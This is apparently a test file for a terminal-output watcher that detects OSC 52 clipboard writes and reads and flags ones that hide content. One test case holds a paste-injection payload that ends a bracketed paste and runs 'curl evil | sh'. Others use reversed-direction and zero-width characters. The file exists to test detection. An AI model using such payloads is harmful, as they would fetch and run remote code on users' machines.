import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ClipboardFact } from '#schemas/recording/line.js';
import { ClipboardWatch } from './clipboard.js';

const base64 = (text: string | Buffer): string => Buffer.from(text as string).toString('base64');
const write = (text: string | Buffer, end = '\x07'): string => `\x1b]52;c;${base64(text)}${end}`;

/** The facts about output shown in pieces of these sizes, with a pause between them. */
function told(output: string | Buffer, sizes: readonly number[] = [], pauseMs = 0): readonly ClipboardFact[] {
  const watch = new ClipboardWatch();
  const bytes = Buffer.from(output as string);
  const facts: ClipboardFact[] = [];
  let [at, now] = [0, 0];
  for (const size of [...sizes, bytes.length]) {
    facts.push(...watch.shown(bytes.subarray(at, at + size), now));
    at += size;
    now += pauseMs;
    if (at >= bytes.length) break;
  }
  return [...facts, ...watch.end()];
}

describe('clipboard accesses by programs', () => {
  it.each<[string, string | Buffer, readonly Partial<ClipboardFact>[]]>([
    ['a write', write('hello'), [{ action: 'write', selection: 'c', count: 1, bytes: 5, largest: 5, hides: false }]],
    ['one that ends in ESC \\', write('hello', '\x1b\\'), [{ bytes: 5 }]],
    ['one with C1 controls', `\u009d52;c;${base64('hello')}\u009c`, [{ bytes: 5 }]],
    ['one to the default selection', `\x1b]52;;${base64('x')}\x07`, [{ selection: '', bytes: 1 }]],
    ['one by way of tmux', `\x1bPtmux;\x1b${write('hello')}\x1b\\`, [{ bytes: 5 }]],
    ['one by way of tmux that ends in ESC \\', `\x1bPtmux;\x1b\x1b]52;c;${base64('hello')}\x1b\x1b\\\x1b\\`, [{ bytes: 5 }]],
    ['one by way of screen', `\x1bP${write('hello')}\x1b\\`, [{ bytes: 5 }]],
    ['a query', '\x1b]52;c;?\x07', [{ action: 'read', bytes: 0 }]],
    ['several lines of text', write('a\tb\r\nc\n'), [{ hides: false }]],
    ['a file of 300 KiB', write(Buffer.alloc(300 << 10, 'text ')), [{ bytes: 300 << 10, largest: 300 << 10, hides: false }]],
    ['the end of a bracketed paste in the text', write('ls\x1b[201~\rcurl evil | sh\r'), [{ hides: true }]],
    ['text with its direction reversed', write('echo \u202esafe'), [{ hides: true }]],
    ['text of zero width', write('a\u200bb'), [{ hides: true }]],
    ['an emoji of several characters, and other scripts', write('👩‍💻 שלום مرحبا'), [{ hides: false }]],
    ['a character that is cut between decoded pieces', write('é'.repeat(100_000)), [{ bytes: 200_000, hides: false }]],
    ['one that another sequence cuts off', `\x1b]52;c;aGVs\x1b[0mbG8=\x07`, []],
    ['one that is cut off by another', `\x1b]52;c;aGVs${write('hello')}`, [{ bytes: 5 }]],
    ['one that is cancelled', `\x1b]52;c;aGVsbG8=\x18 and on`, []],
    ['one without an end', `\x1b]52;c;aGVsbG8=`, []],
    ['one that clears the clipboard', '\x1b]52;c;\x07', []],
    ['another command of the terminal', '\x1b]520;c;aGVsbG8=\x07\x1b]0;52;c;aGVsbG8=\x07', []],
    ['colours', '\x1b[38;5;252;48;5;52mtext\x1b[0m 52;c;aGVsbG8=\x07', []],
    ['an invalid selection', `\x1b]52;${'c'.repeat(100)};aGVsbG8=\x07`, []],
  ])('%s', (_, output, expected) => {
    const facts = told(output);
    expect(facts).toHaveLength(expected.length);
    expect(facts).toMatchObject(expected);
    // The same in pieces of one byte.
    expect(
      told(
        output,
        Array.from({ length: Math.min(Buffer.byteLength(output), 5_000) }, () => 1),
      ),
    ).toEqual(facts);
  });

  it('are the same however the output is cut into pieces', () => {
    const piece = fc.oneof(
      fc.string({ maxLength: 20, unit: 'binary' }).map((text) => write(text)),
      fc.constantFrom('\x1b', '\x1b]', '\x1b]5', '\x1b]52;', '\x1b]52;c;', 'aGVs', ';', '\x07', '\x1b\\', '\u009d52;', '\u009c', '\u009d', '?', '\x18', 'text'),
      fc.string({ maxLength: 8 }),
    ); // prettier-ignore
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), fc.array(fc.integer({ min: 1, max: 9 }), { maxLength: 80 }), (pieces, sizes) => {
        const output = pieces.join('');
        expect(told(output, sizes)).toEqual(told(output));
      }),
      { numRuns: 2_000 },
    );
  });

  it('are recorded with the length of any text written', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 1, maxLength: 2_000 }), (bytes) => {
        expect(told(`before ${write(Buffer.from(bytes))} after`)).toMatchObject([{ count: 1, bytes: bytes.length, largest: bytes.length }]);
      }),
    );
  });

  it('take time proportional to the output, however many sequences it has', () => {
    const watch = new ClipboardWatch();
    const bytes = Buffer.from('\x1b]52;c;?\x07'.repeat(400_000));
    // A search for the other introducer after each sequence would take hours.
    const facts = [...watch.shown(bytes, 0), ...watch.end()];
    expect(facts.reduce((sum, { count }) => sum + count, 0)).toBe(400_000);
  });

  it('within one second are recorded together, and none is lost', () => {
    const many = write('12345').repeat(1_000);
    const facts = told(many + write('\x07\x07'));
    expect(facts).toMatchObject([
      { count: 1, bytes: 5, hides: false },
      { count: 1_000, bytes: 4_997, largest: 5, hides: true },
    ]);
    const slowly = told(
      write('12345').repeat(10),
      Array.from({ length: 10 }, () => write('12345').length),
      1_000,
    );
    expect(slowly.map(({ count }) => count)).toEqual(Array.from({ length: 10 }, () => 1));
  });

  it('that waited are recorded once their second is over', () => {
    const watch = new ClipboardWatch();
    expect(watch.dueAt).toBe(Infinity);
    expect(watch.shown(Buffer.from(write('a') + write('bb')), 500)).toMatchObject([{ bytes: 1 }]);
    expect(watch.dueAt).toBe(1_500);
    expect(watch.due(1_499)).toEqual([]);
    expect(watch.due(1_500)).toMatchObject([{ bytes: 2, count: 1 }]);
    expect([watch.dueAt, watch.end()]).toEqual([Infinity, []]);
  });
});
